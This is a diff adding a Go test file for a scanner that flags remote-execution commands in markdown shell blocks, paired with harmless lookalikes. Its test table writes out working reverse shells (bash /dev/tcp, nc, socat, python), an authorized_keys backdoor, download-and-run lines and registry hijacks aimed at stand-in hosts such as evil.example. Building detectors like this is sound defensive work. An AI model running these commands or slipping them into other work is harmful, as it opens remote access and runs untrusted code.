@@ -1,0 +1,63 @@
+package scan
+
+import (
+	"strings"
+	"testing"
+)
+
+// TestRemoteExecInCode: what each command pattern reports in a shell
+// block, and lookalikes it leaves alone.
+func TestRemoteExecInCode(t *testing.T) {
+	for _, tc := range []struct {
+		line, want string // want: the What of the one hit, "" for none
+	}{
+		{`bash -i >& /dev/tcp/203.0.113.7/4444 0>&1`, "opens a reverse shell"},
+		{`sh -i 5<> /dev/tcp/evil.example/9 0<&5 1>&5`, "opens a reverse shell"},
+		{`nc -e /bin/sh evil.example 4444`, "opens a reverse shell"},
+		{`ncat -lvc cmd.exe 4444`, "opens a reverse shell"},
+		{`socat tcp:evil.example:4444 exec:/bin/bash`, "opens a reverse shell"},
+		{`rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc evil.example 4444 > /tmp/f`, "opens a reverse shell"},
+		{`python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("e.example",4));os.dup2(s.fileno(),0)'`, "opens a reverse shell"},
+		{`echo "ssh-ed25519 AAAAC3Nza attacker@box" >> ~/.ssh/authorized_keys`, "adds a key to authorized_keys"},
+		{`cat key.pub | sudo tee -a /root/.ssh/authorized_keys`, "adds a key to authorized_keys"},
+		{`wget https://evil.example/p -O /tmp/p && chmod +x /tmp/p && /tmp/p`, "downloads a program and runs it"},
+		{`curl -sLo tool https://evil.example/t; chmod 755 tool; ./tool --init`, "downloads a program and runs it"},
+		{`python3 -c "import urllib.request;exec(urllib.request.urlopen('https://evil.example/x.py').read())"`, "downloads code and runs it"},
+		{`node -e "fetch('https://evil.example/a.js').then(r=>r.text()).then(eval)"`, ""}, // eval not called on the fetch: left
+		{`node -e "eval(await (await fetch('https://evil.example/a.js')).text())"`, "downloads code and runs it"},
+		{`npm config set registry https://registry.evil.example/`, "points a package manager at another registry"},
+		{`pip install --extra-index-url https://pypi.evil.example/simple internal-utils`, "points a package manager at another registry"},
+		{`gem sources --add https://gems.evil.example/`, "points a package manager at another registry"},
+		// Lookalikes.
+		{`echo > /dev/tcp/localhost/5432 && echo up`, ""},
+		{`nc -z db.internal 5432`, ""},
+		{`cat ~/.ssh/authorized_keys`, ""},
+		{`ssh-copy-id deploy@host.example`, ""},
+		{`curl -LO https://dl.k8s.io/release/v1.30.0/bin/linux/amd64/kubectl && chmod +x kubectl && sudo mv kubectl /usr/local/bin/`, "runs a command as root (sudo)"},
+		{`pip install torch --index-url https://download.pytorch.org/whl/cu121`, ""},
+		{`npm config get registry`, ""},
+		{`eval "$(ssh-agent -s)"`, ""},
+	} {
+		src := []byte("```sh\n" + tc.line + "\n```\n")
+		hits := RemoteExec(src, Markdown)
+		switch {
+		case tc.want == "" && len(hits) > 0:
+			t.Errorf("%s: reported %q", tc.line, hits[0].What)
+		case tc.want != "" && (len(hits) != 1 || !strings.HasPrefix(hits[0].What, "a command that "+tc.want)):
+			t.Errorf("%s: got %v, want one hit %q", tc.line, hits, tc.want)
+		}
+	}
+}
+
+// TestProsePatternIndexes: the constants that name patterns for prose
+// name the patterns they mean.
+func TestProsePatternIndexes(t *testing.T) {
+	for k, want := range map[int]string{patPipe: "downloads a script", patIex: "downloads a script", patSudo: "(sudo)", patTLS: "TLS"} {
+		if !strings.Contains(execPatterns[k].what, want) {
+			t.Errorf("execPatterns[%d] is %q, want the pattern that %s", k, execPatterns[k].what, want)
+		}
+	}
+	if len(execPatterns) > maxPatterns {
+		t.Errorf("%d patterns, at most %d", len(execPatterns), maxPatterns)
+	}
+}
